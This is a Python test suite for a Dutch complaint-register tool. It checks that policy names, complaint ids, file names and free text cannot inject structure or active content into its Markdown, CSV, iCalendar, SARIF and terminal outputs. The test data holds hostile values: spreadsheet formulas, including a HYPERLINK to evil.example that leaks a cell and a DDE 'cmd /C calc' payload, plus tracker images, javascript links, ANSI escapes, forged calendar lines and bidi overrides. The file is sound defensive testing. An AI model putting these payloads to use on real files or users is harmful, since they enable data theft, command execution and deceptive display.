"""User text cannot change an output's structure or run in the reader's tool (output injection).

Each test puts a hostile value (a line break, an ANSI escape, Markdown or HTML, iCalendar separators,
a spreadsheet formula) where the user types it: a policy's name, the organisation file's handling
term, a complaint id. ``Jansen7qx`` marks the user's text, which must still be shown, as text.
"""

from __future__ import annotations

import csv
import datetime as dt
import importlib
import io
import json
import os
import re
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Final
from urllib.parse import unquote, urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from klachtregels.cli import main

if TYPE_CHECKING:
    from types import ModuleType

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples"
MARK = "Jansen7qx"

#: Values that try to start a line of their own, a Markdown heading or HTML, or colour the terminal.
NEW_LINE = [
    f"{MARK}\n# Kop <img src=https://tracker.example/p.gif>",
    f"{MARK}\r\n# Kop | kolom | breuk |",
    f"{MARK}\u2028# Kop [klik](javascript:alert(1))",
    f"{MARK}\x1b[31m\n# Kop\x1b[0m",
]


_MD_LINK = re.compile(r"(?<!\\)\]\(")  # a link or image: ']' straight before '(' (unescaped)


def _policy(tmp_path: Path, name: str) -> Path:
    path = tmp_path / "policy.toml"
    path.write_text(f'[policy]\nname = {json.dumps(name)}\ntitle = "T"\n', encoding="utf-8")
    return path


def _run(args: list[str], capsys: pytest.CaptureFixture[str]) -> str:
    code = main(args)
    captured = capsys.readouterr()
    assert code in (0, 1), captured.err
    return captured.out


def _no_line_of_its_own(out: str) -> None:
    assert MARK in out  # shown, ...
    assert not any(line.lstrip().startswith("# Kop") for line in out.splitlines())  # ... on its line
    assert "\x1b" not in out
    assert "\r" not in out


# --------------------------------------------------------------------------------------------------
# The policy's name: check (text, github summary) and assess
# --------------------------------------------------------------------------------------------------


#: Where a policy's name is shown: check's text, check's GitHub summary, assess's notes.
_POLICY_SHOWN: Final = {
    "check text": ["check", str(EXAMPLES / "register.csv"), "--as-of", "2025-12-01"],
    "github summary": [
        "check",
        str(EXAMPLES / "register.csv"),
        "--as-of",
        "2025-12-01",
        "--format",
        "github",
    ],
    "assess text": ["assess", str(EXAMPLES / "complaint.json"), "--as-of", "2026-05-07"],
}


@pytest.mark.parametrize("name", NEW_LINE)
@pytest.mark.parametrize("where", list(_POLICY_SHOWN))
def test_the_policy_name_stays_on_its_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, where: str
) -> None:
    out = _run([*_POLICY_SHOWN[where], "--policy", str(_policy(tmp_path, name))], capsys)
    _no_line_of_its_own(out)
    if where == "github summary":  # Markdown: shown as text
        assert "<img" not in out
        assert not _MD_LINK.search(out)  # "[klik\\](javascript:...)" is text
        assert "| kolom |" not in out  # the table cell separators are escaped


# --------------------------------------------------------------------------------------------------
# The organisation file's handling term in the Markdown report
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("term", NEW_LINE)
def test_markdown_report_shows_the_handling_term_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], term: str
) -> None:
    org = tmp_path / "org.toml"
    text = (EXAMPLES / "organisation.toml").read_text(encoding="utf-8")
    hostile = f"handling_term = {json.dumps(term)}"
    stated = re.sub(r'(?m)^handling_term = "[^"]*".*$', lambda _m: hostile, text, count=1)
    assert hostile in stated  # the example's term line was replaced (a test of nothing otherwise)
    org.write_text(stated, encoding="utf-8")
    register = str(EXAMPLES / "register.csv")
    out = _run(["report", register, "--year", "2025", "--org", str(org), "--format", "md"], capsys)
    _no_line_of_its_own(out)
    assert "<img" not in out
    assert not _MD_LINK.search(out)  # "[klik\\](javascript:...)" is text
    assert "| kolom |" not in out


# --------------------------------------------------------------------------------------------------
# iCalendar: the calendar's name holds the complaint id
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "complaint_id",
    [
        f"K1;{MARK},x",
        f"K1\\n{MARK}",  # a backslash and an n: a line break to a reader if not escaped
        f"K1\r\nEND:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:{MARK};X=1",
    ],
)
def test_ics_calendar_name_is_escaped_text(complaint_id: str) -> None:
    icalendar = pytest.importorskip("icalendar")
    from klachtregels._io import one_line
    from klachtregels.ics import obligations_ics
    from klachtregels.model import Complaint, Judgement
    from klachtregels.timeline import obligations

    data = json.loads((EXAMPLES / "complaint.json").read_text(encoding="utf-8"))
    data["complaint"]["id"] = complaint_id
    timeline = obligations(
        Complaint.from_dict(data["complaint"]),
        as_of=dt.date(2026, 5, 7),
        judgement=Judgement.from_dict(data["judgement"]),
    )
    out = obligations_ics(timeline)
    cal = icalendar.Calendar.from_ical(out)
    assert len(cal.walk("VEVENT")) == len([i for i in timeline.items if i.due is not None])  # none added
    assert sorted(cal.keys()) == ["CALSCALE", "PRODID", "VERSION", "X-WR-CALNAME"]  # no property added
    # X-WR-CALNAME is TEXT to the calendar programs that read it (RFC 5545 3.3.11): every ';', ','
    # and backslash escaped, so that read back it is the id as shown.
    # Read from the file as written (unfolded), not through icalendar's own read-back, which differs
    # between icalendar 6 and 7 in what it escapes again.
    text = (out if isinstance(out, str) else out.decode("utf-8")).replace("\r\n ", "").replace("\r\n\t", "")
    (raw,) = [line.partition(":")[2] for line in text.split("\r\n") if line.startswith("X-WR-CALNAME:")]
    assert re.fullmatch(r"(?:[^\\;,]|\\[\\;,nN])*", raw), raw
    assert _TEXT_ESCAPE.sub(_unescape, raw) == f"Klacht {one_line(complaint_id)}: verplichtingen"


_TEXT_ESCAPE = re.compile(r"\\([\\;,nN])")


def _unescape(match: re.Match[str]) -> str:
    char = match.group(1)
    return "\n" if char in "nN" else char


# --------------------------------------------------------------------------------------------------
# The web page's findings CSV: spreadsheet formulas (OWASP "CSV injection")
# --------------------------------------------------------------------------------------------------


def _bridge() -> ModuleType:
    web_src = str(ROOT / "web" / "src")
    if web_src not in sys.path:
        sys.path.insert(0, web_src)
    return importlib.import_module("bridge")


def _finding(complaint_id: str | None) -> dict[str, object]:
    return {
        "severity": "error",
        "id": "KR-ROW-REJECTED",
        "check": "row",
        "row": 3,
        "complaint_id": complaint_id,
        "column": "received_on",
        "rule_ids": ["R1", "R2"],
        "ambiguities": [],
        "message": {"nl": "Rij 3 afgewezen.", "en": "Row 3 rejected."},
    }


@pytest.mark.parametrize(
    "complaint_id",
    [
        f'=HYPERLINK("https://evil.example/?"&A1,"{MARK}")',
        f"+1+cmd|' /C calc'!A0{MARK}",
        f"-2+3+{MARK}",
        f"@SUM(1+1)*cmd|' /C calc'!A0{MARK}",
        f"\t=1+1{MARK}",
        f"\r=1+1{MARK}",
    ],
)
def test_findings_csv_cell_never_starts_a_formula(complaint_id: str) -> None:
    out = _bridge().findings_csv({"findings": [_finding(complaint_id)]}, "nl")
    row = next(csv.DictReader(io.StringIO(out, newline=""), delimiter=";"))
    assert row["complaint_id"] == "'" + complaint_id  # shown whole, after a quote that makes it text
    assert row["message"] == "Rij 3 afgewezen."


@pytest.mark.parametrize("complaint_id", ["VT-2024-001", "K 12", "'quoted", None])
def test_findings_csv_keeps_ordinary_ids(complaint_id: str | None) -> None:
    out = _bridge().findings_csv({"findings": [_finding(complaint_id)]}, "en")
    row = next(csv.DictReader(io.StringIO(out, newline=""), delimiter=";"))
    assert row["complaint_id"] == (complaint_id or "")
    assert row["rule_ids"] == "R1 R2"


# --------------------------------------------------------------------------------------------------
# SARIF: a register's file name is a URI reference (RFC 3986), whatever characters it holds
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        f"klachten #2 {MARK}.csv",
        f"{MARK} 100%.csv",
        f"{MARK}?x=1.csv",
        f"x:{MARK}.csv",  # not a scheme
        "register.csv",
        "map/register-2025_v1.csv",
    ],
)
def test_sarif_artifact_uri_is_the_file_name_percent_encoded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_text("id,received_on\nK-1,not a day\n", encoding="utf-8")
    out = _run(["check", name, "--as-of", "2025-12-01", "--format", "sarif"], capsys)
    results = json.loads(out)["runs"][0]["results"]
    uris = {loc["physicalLocation"]["artifactLocation"]["uri"] for r in results for loc in r["locations"]}
    assert len(uris) == 1
    uri = uris.pop()
    parts = urlsplit(uri)
    assert (parts.scheme, parts.query, parts.fragment) == ("", "", "")  # a relative path and nothing else
    assert re.fullmatch(r"[A-Za-z0-9\-._~/!$&'()*+,;=:@%]*", uri), uri  # only URI characters
    assert unquote(uri) == name


@pytest.mark.skipif(sys.platform != "linux", reason="a file name that is not UTF-8 needs a byte file system")
@pytest.mark.parametrize("absolute", [False, True])
def test_sarif_artifact_uri_of_a_file_name_that_is_not_utf_8(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], absolute: bool
) -> None:
    # A name written in Latin-1 (byte 0xEB, 'ë') on a UTF-8 system: Python gives it as a lone
    # surrogate (surrogateescape). The URI percent-encodes the byte, as Path.as_uri does; before, a
    # relative name stopped the run with a UnicodeEncodeError.
    monkeypatch.chdir(tmp_path)
    raw = b"klacht\xeb.csv"
    (tmp_path / os.fsdecode(raw)).write_text("id,received_on\nK-1,not a day\n", encoding="utf-8")
    name = os.fsdecode(raw)
    assert name == "klacht\udceb.csv"
    given = str(tmp_path / name) if absolute else name
    out = _run(["check", given, "--as-of", "2025-12-01", "--format", "sarif"], capsys)
    results = json.loads(out)["runs"][0]["results"]
    (uri,) = {loc["physicalLocation"]["artifactLocation"]["uri"] for r in results for loc in r["locations"]}
    assert uri.endswith("klacht%EB.csv")
    assert uri.startswith("file:///") is absolute
    out.encode("utf-8")  # no lone surrogate anywhere in the output


@pytest.mark.parametrize("option", ["--x\x1b[31mred", "--x\x1b]0;title\x07", "--x\nforged"])
def test_an_unknown_option_is_named_without_its_escapes(
    option: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # argparse's error names an unknown option; before, an escape sequence in it reached the
    # terminal as it was (the error line in red, a window title set), and a line break started a line.
    monkeypatch.chdir(ROOT)
    with pytest.raises(SystemExit) as exited:
        main(["check", "examples/register.csv", option])
    assert exited.value.code == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert err.startswith("klachtregels: error: unrecognized arguments: --x")
    assert "\x1b" not in err
    assert "\x07" not in err


# --------------------------------------------------------------------------------------------------
# Invisible characters: refused in names and ids, never carried into a rendered line
# --------------------------------------------------------------------------------------------------

#: Unicode format characters: zero-width space, non-joiner, joiner, direction marks, word joiner, a
#: byte order mark inside the value, a soft hyphen, the right-to-left override and an isolate.
INVISIBLE = [
    "\u200b",
    "\u200c",
    "\u200d",
    "\u200e",
    "\u200f",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u202e",
    "\u2067",
]
#: The bidirectional controls and marks that reorder a rendered line (Trojan Source).
_BIDI = re.compile(r"[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_FORMAT = re.compile(r"[\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]")


def _register(tmp_path: Path, column: str, value: str, *, rows: int = 1, filled: bool = False) -> Path:
    """The example register with ``value`` in ``column`` of its first ``rows`` rows (header kept);
    ``filled``: only where the example has a value in that column."""
    with (EXAMPLES / "register.csv").open(encoding="utf-8", newline="") as f:
        table = list(csv.reader(f))
    at = table[0].index(column)
    for row in table[1 : 1 + rows]:
        if row[at] or not filled:
            row[at] = value
    path = tmp_path / "register.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(table)
    return path


@pytest.mark.parametrize("char", INVISIBLE, ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("id", "VT-2015-{}" + MARK),
        ("location", "KDV De {}Voorbeeldtuin" + MARK),
        ("category", "Planning {}en plaatsing" + MARK),
        ("channel", "e{}mail"),
        ("gck_case_number", "GCK-{}" + MARK),
    ],
)
def test_a_name_or_id_with_an_invisible_character_rejects_its_row(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], char: str, column: str, value: str
) -> None:
    # Before, the id, location, category and case number were taken as they were (the id reached the
    # JSON and SARIF outputs with its override; "KDV De\u200bVoorbeeldtuin" counted as a location of
    # its own in the annual report), and the channel was "an unknown value; did you mean email?".
    register = _register(tmp_path, column, value.format(char))
    args = ["check", str(register), "--as-of", "2025-12-01", "--lang", "en", "--format", "json"]
    data = json.loads(_run(args, capsys))
    (rejected,) = [f for f in data["findings"] if f["id"] == "KR-ROW-REJECTED" and f["row"] == 2]
    assert rejected["column"] == column
    assert "holds an invisible character" in rejected["message"]["en"]
    assert MARK not in json.dumps(rejected, ensure_ascii=False)  # the value is never shown
    assert not _FORMAT.search(json.dumps(data, ensure_ascii=False))


@pytest.mark.parametrize("char", ["\u200b", "\u202e", "\ufeff"], ids=lambda c: f"U+{ord(c):04X}")
def test_every_door_refuses_an_invisible_character_in_a_name_alike(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], char: str
) -> None:
    from klachtregels.errors import InvalidInputError
    from klachtregels.model import Complaint, Location

    # A complaint's JSON (assess), the organisation file's TOML, from_dict and the constructor.
    data = json.loads((EXAMPLES / "complaint.json").read_text(encoding="utf-8"))
    data["complaint"]["location"] = f"KDV{char} {MARK}"
    complaint = tmp_path / "complaint.json"
    complaint.write_text(json.dumps(data), encoding="utf-8")
    assert main(["assess", str(complaint), "--as-of", "2026-05-07"]) == 2
    err = capsys.readouterr().err
    assert "complaint.location: holds an invisible character" in err
    assert MARK not in err
    org = tmp_path / "org.toml"
    text = (EXAMPLES / "organisation.toml").read_text(encoding="utf-8")
    org.write_text(
        text.replace('name = "KDV De Voorbeeldtuin"', f'name = "KDV{char} {MARK}"', 1), encoding="utf-8"
    )
    assert org.read_text(encoding="utf-8") != text
    assert main(["check", str(EXAMPLES / "register.csv"), "--org", str(org), "--as-of", "2026-05-07"]) == 2
    err = capsys.readouterr().err
    assert re.search(r"locations\[\d+\]\.name: holds an invisible character", err)
    assert MARK not in err
    with pytest.raises(InvalidInputError, match=r"location: holds an invisible character"):
        Complaint.from_dict({"location": f"KDV{char}"})
    with pytest.raises(InvalidInputError, match=r"id: holds an invisible character"):
        Complaint(id=f"K{char}1")
    with pytest.raises(InvalidInputError, match=r"name: holds an invisible character"):
        Location(name=f"KDV{char}")
    # Free text keeps them (it is the caller's), and visible letters outside ASCII are names as any.
    assert Complaint(id="Klacht-é", description=f"vrije{char} tekst").description == f"vrije{char} tekst"


def _report(tmp_path: Path, register: Path, output: str, capsys: pytest.CaptureFixture[str]) -> str:
    args = ["report", str(register), "--year", "2025", "--include-descriptions", "--format", output]
    return _run(args, capsys)


@pytest.mark.parametrize("output", ["md", "html", "json"])
def test_free_text_reaches_the_report_without_invisible_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], output: str
) -> None:
    # A measure's description is free text: kept in the register, redacted in the report (R9, Wko
    # 1.57b lid 5). Before, its override and isolates reached the JSON report, and a zero-width space
    # inside an e-mail address hid it from the redaction: the report showed it, reading whole.
    hostile = f"Extra \u202ecoaching\u202c {MARK} \u2067x\u2069 door jan@voor\u200bbeeld.nl"
    register = _register(tmp_path, "measure_description", hostile, rows=60, filled=True)
    out = _report(tmp_path, register, output, capsys)
    assert f"coaching {MARK} x door [e-mail]" in out
    assert not _FORMAT.search(out)
    assert "voorbeeld.nl" not in out.replace("voorbeeldtuin", "")


# --------------------------------------------------------------------------------------------------
# Markdown: nothing becomes a link where GitHub renders it (GFM autolinks)
# --------------------------------------------------------------------------------------------------

#: Text a GFM renderer links on its own: www., a scheme, an e-mail address (also as an entity).
AUTOLINKS = [
    f"www.{MARK}.nl",
    f"zie https://{MARK}.nl/klacht",
    f"HTTP://{MARK}.example",
    f"mailto:info@{MARK}.nl",
    f"info@{MARK}.nl",
    f"info&#64;{MARK}.nl",
    f"*www.{MARK}.nl*",
    f"(ftp://{MARK}.nl)",
    "www.[naam].nl",  # what the anonymiser leaves of a website named after a person
]


def _gfm(markdown: str) -> str:
    """The HTML GitHub makes of ``markdown`` (cmark-gfm with GitHub's extensions, autolink among them)."""
    import cmarkgfm

    return str(cmarkgfm.github_flavored_markdown_to_html(markdown))


def test_the_autolinks_are_links_to_the_renderer() -> None:
    """The premise: unescaped, each is a link."""
    assert all("<a href" in _gfm(text) for text in AUTOLINKS)


@pytest.mark.parametrize("text", AUTOLINKS)
def test_markdown_text_is_never_an_autolink(text: str) -> None:
    from klachtregels._io import markdown_text

    html = _gfm(markdown_text(text))
    assert "<a" not in html
    shown = re.sub(r"<[^>]+>", "", html).replace("&amp;", "&").strip()  # what a reader sees
    assert shown == text.replace("\\", "")


def test_the_markdown_report_links_no_address_or_website(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The measure descriptions (free text, redacted) and the categories (names) of the report. Before,
    # GitHub linked "www.example.nl" and "klachten@example.nl" in the report's Markdown.
    register = _register(tmp_path, "measure_description", " · ".join(AUTOLINKS), rows=60, filled=True)
    text = register.read_text(encoding="utf-8").replace("Tarieven", f"Tarieven klachten@{MARK}.nl")
    register.write_text(text, encoding="utf-8")
    out = _report(tmp_path, register, "md", capsys)
    assert f"www&#46;{MARK}.nl" in out  # the website is shown, ...
    assert f"klachten<!-- -->@{MARK}.nl" in out  # ... and the category's address
    links = re.findall(r'<a href="([^"]*)"', _gfm(out))
    assert links == ["https://wetten.overheid.nl/BWBR0017017#Artikel1.57b"]  # ... as text: the law's only


def test_the_github_summary_links_no_address_or_website(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    register = _register(tmp_path, "id", f"klacht@{MARK}.nl", rows=30)  # beyond the ten annotations
    args = ["check", str(register), "--as-of", "2025-12-01", "--format", "github"]
    out = _run([*args, "--policy", str(_policy(tmp_path, f"www.{MARK}.nl"))], capsys)
    # The summary's Markdown (the lines before it are workflow commands, plain text to GitHub).
    summary = "\n".join(line for line in out.splitlines() if not line.startswith("::"))
    assert f"klacht<!-- -->@{MARK}.nl" in summary
    assert f"www&#46;{MARK}.nl" in summary
    assert "<a " not in _gfm(summary)


#: Pieces of autolinks, markup and character references, drawn in any order.
_PIECES = [
    "www.",
    "WWW.",
    "http",
    "s",
    "://",
    "@",
    "mailto:",
    "x",
    "1",
    ".",
    "nl",
    " ",
    "_",
    "-",
    "+",
    "*",
    "(",
    ")",
    "[",
    "]",
    "&",
    "#64;",
    "#x40;",
    "commat;",
    ";",
    "\\",
    "<",
    ">",
    "!",
    "é",
    "\u200b",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join))
@example("mailto:@www.www.")  # GFM links "mailto:" + a domain with no local part (CI found it)
@example("xmpp:@www.example.")
@example("www.@.www.")  # a local part and a domain of dots and letters only
def test_markdown_text_over_autolink_pieces_is_never_a_link(value: str) -> None:
    from klachtregels._io import markdown_text

    out = markdown_text(value)
    html = _gfm(out)
    assert "<a" not in html
    assert "<img" not in html


@pytest.mark.parametrize("value", ["@team", "@b.nl", "@www.example.nl"])
def test_a_value_that_starts_with_an_at_sign_stays_visible_text(value: str) -> None:
    """The empty comment that keeps an e-mail address from being linked is never put first: a line that
    starts with an HTML comment is an HTML block, and the renderer would hide the whole value."""
    from klachtregels._io import markdown_text

    html = _gfm(markdown_text(value))
    assert "<a" not in html
    assert "raw HTML omitted" not in html
    assert value.replace(".", "") in html.replace(".", "").replace("&#46;", "")
